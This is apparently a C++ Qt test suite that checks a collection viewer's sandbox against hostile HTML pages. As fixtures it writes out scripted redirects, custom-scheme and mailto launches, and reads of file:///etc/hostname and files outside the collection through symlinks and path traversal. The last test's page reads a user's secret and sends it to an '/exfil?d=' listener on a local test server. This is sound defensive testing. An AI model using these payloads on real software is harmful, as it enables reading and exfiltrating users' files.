#include "Collection.h"
#include "CollectionWriter.h"
#include "ContentAddress.h"
#include "LocalWebServer.h"
#include "PageBrowser.h"
#include "PageTestSupport.h"

#include <QDir>
#include <QFile>
#include <QSignalSpy>
#include <QTest>

#include "QtPrinters.h"

#include <gtest/gtest.h>

// Pages of a collection that try to leave it: to send the user to the web,
// to another program, or to read this computer's files.
namespace corvanel {
namespace {

using testing::kPageTimeoutMs;
using testing::LocalWebServer;
using testing::PageFolder;
using testing::pngPicture;
using testing::readingPage;
using testing::titleOnceItStartsWith;
using testing::UserBrowser;

// How long a refused attempt is given to show up after all.
constexpr int kQuietMs = 1000;

// Everything the tests' pages could hand to the desktop.
UserBrowser everyScheme() {
    return UserBrowser({QStringLiteral("http"), QStringLiteral("https"), QStringLiteral("mailto"),
                        QStringLiteral("corvanel-teste")});
}

QByteArray utf8(const QString& text) {
    return text.toUtf8();
}

// What was handed to the desktop, once a refused attempt has had time to
// show up after all.
QStringList openedAfterAQuietMoment(const QSignalSpy& opened) {
    QTest::qWait(kQuietMs);
    QStringList addresses;
    for (const QList<QVariant>& call : opened) {
        addresses << call.at(0).toUrl().toString();
    }
    return addresses;
}

// A browser for content's collection, shown so that it takes input.
class ShownBrowser {
public:
    explicit ShownBrowser(const PageFolder& content) {
        browser.setContentRootSource([root = content.root()] { return root; });
        browser.resize(400, 300);
        browser.show();
        EXPECT_TRUE(QTest::qWaitForWindowExposed(&browser));
    }

    // Loads a page of textos/ and waits until it is shown.
    void open(const PageFolder& content, const QString& page) {
        QSignalSpy loaded(&browser, &QWebEngineView::loadFinished);
        browser.Navigate(ContentAddress::pageAddress(content.root(), page));
        ASSERT_TRUE(loaded.wait(kPageTimeoutMs));
        ASSERT_NE(browser.focusProxy(), nullptr);
    }

    void click(QPoint at) { QTest::mouseClick(browser.focusProxy(), Qt::LeftButton, {}, at); }

    PageBrowser browser;
};

struct ScriptAttempt {
    const char* name;
    const char16_t* head;    // %1: the web server
    const char16_t* script;  // %1: the web server
};

void PrintTo(const ScriptAttempt& attempt, std::ostream* out) {
    *out << attempt.name;
}

class ScriptedAttempts : public ::testing::TestWithParam<ScriptAttempt> {};

// Each page tries once, then says so in its title; nothing may have opened
// and the page stays.
TEST_P(ScriptedAttempts, OpenNothingAndLeaveNothing) {
    LocalWebServer web;
    const QString server = web.address(QString());
    PageFolder content;
    content.write(QStringLiteral("ataque.htm"),
                  utf8(u"<!DOCTYPE html><html><head><meta charset='utf-8'>" +
                       QString::fromUtf16(GetParam().head).replace(QStringLiteral("%1"), server) +
                       u"</head><body><form action='" + server +
                       u"/formulario'><input name='q' value='x'></form>"
                       u"<a id='ligacao' href='" +
                       server + u"/ligacao'>ligação</a><script>" +
                       QString::fromUtf16(GetParam().script).replace(QStringLiteral("%1"), server) +
                       u"; setTimeout(function () { document.title = 'tentou'; }, 600);"
                       u"</script></body></html>"));
    UserBrowser desktop = everyScheme();
    QSignalSpy opened(&desktop, &UserBrowser::opened);

    ShownBrowser shown(content);
    shown.open(content, QStringLiteral("ataque"));
    const QUrl page = shown.browser.url();

    EXPECT_EQ(titleOnceItStartsWith(shown.browser, QStringLiteral("tentou")),
              QStringLiteral("tentou"));
    EXPECT_EQ(openedAfterAQuietMoment(opened), QStringList());
    EXPECT_EQ(shown.browser.url(), page);
    EXPECT_TRUE(web.requests.isEmpty()) << web.requests.join(u' ').toStdString();
}

INSTANTIATE_TEST_SUITE_P(
    HostilePages, ScriptedAttempts,
    ::testing::Values(
        ScriptAttempt{"WindowOpen", u"", u"window.open('%1/janela')"},
        ScriptAttempt{"LocationHref", u"", u"location.href = '%1/endereco'"},
        ScriptAttempt{"DelayedRedirect", u"",
                      u"setTimeout(function () { location.href = '%1/atrasado'; }, 300)"},
        ScriptAttempt{"DelayedWindow", u"",
                      u"setTimeout(function () { window.open('%1/janela-atrasada'); }, 300)"},
        ScriptAttempt{"ScriptedClickOnALink", u"", u"document.getElementById('ligacao').click()"},
        ScriptAttempt{"MailTo", u"", u"location.href = 'mailto:alguem@example.com'"},
        ScriptAttempt{"AnotherProgramsScheme", u"", u"location.href = 'corvanel-teste:abrir'"},
        ScriptAttempt{"FormSubmission", u"", u"document.forms[0].submit()"},
        ScriptAttempt{"MetaRefresh", u"<meta http-equiv='refresh' content='0; url=%1/renovado'>",
                      u""},
        ScriptAttempt{"LocalFileOutside", u"", u"location.href = 'file:///etc/hostname'"}),
    [](const ::testing::TestParamInfo<ScriptAttempt>& attempt) { return attempt.param.name; });

// A page that waits for any click, then goes on its own.
TEST(HostilePages, AClickAnywhereLetsNoLaterScriptThrough) {
    LocalWebServer web;
    PageFolder content;
    content.write(QStringLiteral("espera.htm"),
                  utf8(u"<!DOCTYPE html><html><head><title>inicio</title><style>"
                       u"body { margin: 0; height: 100vh; }</style></head><body>texto<script>"
                       u"document.body.onclick = function () { setTimeout(function () {"
                       u"  window.open('" +
                       web.address(QStringLiteral("/janela")) +
                       u"');"
                       u"  location.href = '" +
                       web.address(QStringLiteral("/endereco")) +
                       u"';"
                       u"  document.title = 'tentou'; }, 1500); };"
                       u"</script></body></html>"));
    UserBrowser desktop = everyScheme();
    QSignalSpy opened(&desktop, &UserBrowser::opened);

    ShownBrowser shown(content);
    shown.open(content, QStringLiteral("espera"));
    shown.click(QPoint(200, 150));

    EXPECT_EQ(titleOnceItStartsWith(shown.browser, QStringLiteral("tentou")),
              QStringLiteral("tentou"));
    EXPECT_EQ(openedAfterAQuietMoment(opened), QStringList());
    EXPECT_TRUE(web.requests.isEmpty()) << web.requests.join(u' ').toStdString();
}

TEST(HostilePages, OneClickOpensOneAddress) {
    LocalWebServer web;
    PageFolder content;
    content.write(QStringLiteral("dupla.htm"),
                  utf8(u"<!DOCTYPE html><html><head><style>a { position: absolute; top: 0;"
                       u"left: 0; width: 200px; height: 40px; display: block; }</style></head>"
                       u"<body><a href='" +
                       web.address(QStringLiteral("/lei")) + u"' onclick=\"window.open('" +
                       web.address(QStringLiteral("/carona")) + u"')\">Lei</a></body></html>"));
    UserBrowser desktop = everyScheme();
    QSignalSpy opened(&desktop, &UserBrowser::opened);

    ShownBrowser shown(content);
    shown.open(content, QStringLiteral("dupla"));
    shown.click(QPoint(100, 20));

    ASSERT_TRUE(QTest::qWaitFor([&] { return !opened.isEmpty(); }, kPageTimeoutMs));
    EXPECT_EQ(openedAfterAQuietMoment(opened).size(), 1);
}

TEST(HostilePages, EnterOnALinkTheUserChoseStillOpensTheWeb) {
    LocalWebServer web;
    const QString law = web.address(QStringLiteral("/lei.htm"));
    PageFolder content;
    content.write(QStringLiteral("L01.htm"),
                  utf8(u"<!DOCTYPE html><html><body><a id='lei' href='" + law +
                       u"'>Lei</a><script>document.getElementById('lei').focus();"
                       u"</script></body></html>"));
    UserBrowser desktop = everyScheme();
    QSignalSpy opened(&desktop, &UserBrowser::opened);

    ShownBrowser shown(content);
    shown.open(content, QStringLiteral("L01"));
    shown.browser.activateWindow();
    shown.browser.focusProxy()->setFocus();
    QTest::keyClick(shown.browser.focusProxy(), Qt::Key_Return);

    ASSERT_TRUE(opened.wait(kPageTimeoutMs));
    EXPECT_EQ(opened.first().at(0).toUrl(), QUrl(law));
    EXPECT_TRUE(web.requests.isEmpty()) << web.requests.join(u' ').toStdString();
}

// Of the links the user clicks, one to a file outside the collection and
// one to another program go nowhere, mail goes to the mail program, and one
// within the collection is followed.
TEST(HostilePages, AClickedLinkLeadsOnlyToTheCollectionTheWebOrMail) {
    PageFolder content;
    const QString outside =
        content.writeOutside(QStringLiteral("fora.htm"), "<title>fora</title>SEGREDO");
    content.write(QStringLiteral("destino.htm"), "<title>Chegou</title>");
    content.write(QStringLiteral("links.htm"),
                  utf8(u"<!DOCTYPE html><html><head><title>links</title><style>"
                       u"a { position: absolute; left: 0; width: 200px; height: 40px; "
                       u"display: block; }</style></head><body>"
                       u"<a style='top: 0' href='" +
                       QUrl::fromLocalFile(outside).toString() +
                       u"'>fora</a>"
                       u"<a style='top: 60px' href='corvanel-teste:abrir'>programa</a>"
                       u"<a style='top: 120px' href='mailto:suporte@corvanel.org.br'>mail</a>"
                       u"<a style='top: 180px' href='destino.htm'>destino</a>"
                       u"</body></html>"));
    UserBrowser desktop = everyScheme();
    QSignalSpy opened(&desktop, &UserBrowser::opened);

    ShownBrowser shown(content);
    shown.open(content, QStringLiteral("links"));
    const QUrl page = shown.browser.url();
    shown.click(QPoint(100, 20));
    shown.click(QPoint(100, 80));
    EXPECT_EQ(openedAfterAQuietMoment(opened), QStringList());
    EXPECT_EQ(shown.browser.url(), page);
    EXPECT_EQ(shown.browser.title(), QStringLiteral("links"));

    shown.click(QPoint(100, 140));
    EXPECT_EQ(openedAfterAQuietMoment(opened),
              QStringList{QStringLiteral("mailto:suporte@corvanel.org.br")});

    shown.click(QPoint(100, 200));
    EXPECT_EQ(titleOnceItStartsWith(shown.browser, QStringLiteral("Chegou")),
              QStringLiteral("Chegou"));
    EXPECT_EQ(opened.count(), 1);
}

TEST(HostilePages, APageReadsNothingOutsideItsCollection) {
    PageFolder content;
    const QString secret = content.writeOutside(QStringLiteral("segredo.txt"), "SEGREDO");
    const QString secretFrame =
        content.writeOutside(QStringLiteral("segredo.htm"), "<body>SEGREDO</body>");
    const QString picture = content.writeOutside(QStringLiteral("figura.png"), pngPicture());
    PageFolder::writeFile(content.root() + QStringLiteral("dados/lista.txt"), "DENTRO");
    PageFolder::writeFile(content.root() + QStringLiteral("dados/quadro.htm"),
                          "<body>DENTRO</body>");
    PageFolder::writeFile(content.root() + QStringLiteral("figuras/f.png"), pngPicture());
    content.write(QStringLiteral("buscador.js"),
                  "onmessage = function (e) { fetch(e.data).then(function (r) { return r.text(); })"
                  ".then(function (t) { postMessage(t.trim() || 'vazio'); },"
                  "      function () { postMessage('falhou'); }); };");
    ASSERT_TRUE(QFile::link(secret, content.root() + QStringLiteral("atalho.txt")));
    const QString secretUrl = QUrl::fromLocalFile(secret).toString();
    content.write(QStringLiteral("leitura.htm"),
                  readingPage(u"porXhr('dentro', '../dados/lista.txt');"
                              u"porFetch('dentroFetch', '../dados/lista.txt');"
                              u"porImagem('dentroImagem', '../figuras/f.png');"
                              u"porQuadro('dentroQuadro', '../dados/quadro.htm');"
                              u"porWorker('dentroWorker', '../dados/lista.txt');"
                              u"porBlob('dentroBlob', '../dados/lista.txt');"
                              u"porXhr('fora', '" +
                                  secretUrl +
                                  u"');"
                                  u"porFetch('foraFetch', '" +
                                  secretUrl +
                                  u"');"
                                  u"porXhr('subindo', '../../segredo.txt');"
                                  u"porXhr('atalho', '../atalho.txt');"
                                  u"porXhr('sistema', 'file:///etc/hostname');"
                                  u"porFetch('sistemaFetch', 'file:///etc/hostname');"
                                  u"porImagem('foraImagem', '" +
                                  QUrl::fromLocalFile(picture).toString() +
                                  u"');"
                                  u"porQuadro('foraQuadro', '" +
                                  QUrl::fromLocalFile(secretFrame).toString() +
                                  u"', 3000);"
                                  u"porWorker('foraWorker', '" +
                                  secretUrl +
                                  u"');"
                                  u"porBlob('foraBlob', '" +
                                  secretUrl + u"');",
                              16));

    PageBrowser browser;
    browser.setContentRootSource([&] { return content.root(); });
    browser.Navigate(ContentAddress::pageAddress(content.root(), QStringLiteral("leitura")));

    EXPECT_EQ(titleOnceItStartsWith(browser, QStringLiteral("Leitura")),
              QStringLiteral("Leitura atalho:falhou dentro:DENTRO dentroBlob:DENTRO "
                             "dentroFetch:DENTRO dentroImagem:carregada dentroQuadro:DENTRO "
                             "dentroWorker:DENTRO fora:falhou foraBlob:falhou foraFetch:falhou "
                             "foraImagem:bloqueada foraQuadro:semCarga foraWorker:falhou "
                             "sistema:falhou sistemaFetch:falhou subindo:falhou"));
}

// A received collection whose stored root has no closing separator and
// ends in a link to the root of the disk: "x" + "labels.dat" once found the
// sibling "xlabels.dat", and the whole disk became the collection. Its start
// page reads a file of the user's and, on the first click, leads to a
// listener with the contents in the address.
TEST(HostilePages, AReceivedCollectionsRootLinkedToTheDiskReadsAndSendsNothing) {
    LocalWebServer web;
    QTemporaryDir place;
    const QDir received(place.path());
    const QString secret = place.filePath(QStringLiteral("segredo.txt"));
    PageFolder::writeFile(secret, "SEGREDO-DO-USUARIO");
    ASSERT_TRUE(QFile::link(QStringLiteral("/"), received.filePath(QStringLiteral("x"))));
    PageFolder::writeFile(received.filePath(QStringLiteral("xlabels.dat")), "");
    PageFolder::writeFile(
        received.filePath(QStringLiteral("xentrada2.htm")),
        utf8(u"<!DOCTYPE html><html><head><title>inicio</title><style>"
             u"a { position: absolute; left: 0; top: 0; width: 400px; height: 300px; "
             u"display: block; }</style></head><body><a id='a' href='#'>entrar</a><script>"
             u"var x = new XMLHttpRequest(); x.open('GET', '" +
             QUrl::fromLocalFile(secret).toString() +
             u"');"
             u"x.onload = function () { document.getElementById('a').href = '" +
             web.address(QStringLiteral("/exfil?d=")) +
             u"' + encodeURIComponent(x.responseText); document.title = 'pronta'; };"
             u"x.send();</script></body></html>"));
    collection::writeCollection(received.filePath(QStringLiteral("db3.mdb")), {},
                                received.filePath(QStringLiteral("x")));
    UserBrowser desktop = everyScheme();
    QSignalSpy opened(&desktop, &UserBrowser::opened);

    const ContentFolder folder = Collection::open(place.path()).contentFolder();
    EXPECT_FALSE(folder.contains(QUrl::fromLocalFile(secret)));
    PageBrowser browser;
    browser.setContentRootSource([root = folder.rootText()] { return root; });
    browser.resize(400, 300);
    browser.show();
    ASSERT_TRUE(QTest::qWaitForWindowExposed(&browser));
    QSignalSpy loaded(&browser, &QWebEngineView::loadFinished);
    browser.Navigate(ContentAddress::startPageAddress(folder.rootText()));
    ASSERT_TRUE(loaded.wait(kPageTimeoutMs));
    // Time to read, had the page been let read.
    static_cast<void>(QTest::qWaitFor([&] { return browser.title() == u"pronta"; }, kQuietMs));
    ASSERT_NE(browser.focusProxy(), nullptr);
    QTest::mouseClick(browser.focusProxy(), Qt::LeftButton, {}, QPoint(200, 150));

    EXPECT_EQ(openedAfterAQuietMoment(opened), QStringList());
    EXPECT_TRUE(web.requests.isEmpty()) << web.requests.join(u' ').toStdString();
}

}  // namespace
}  // namespace corvanel
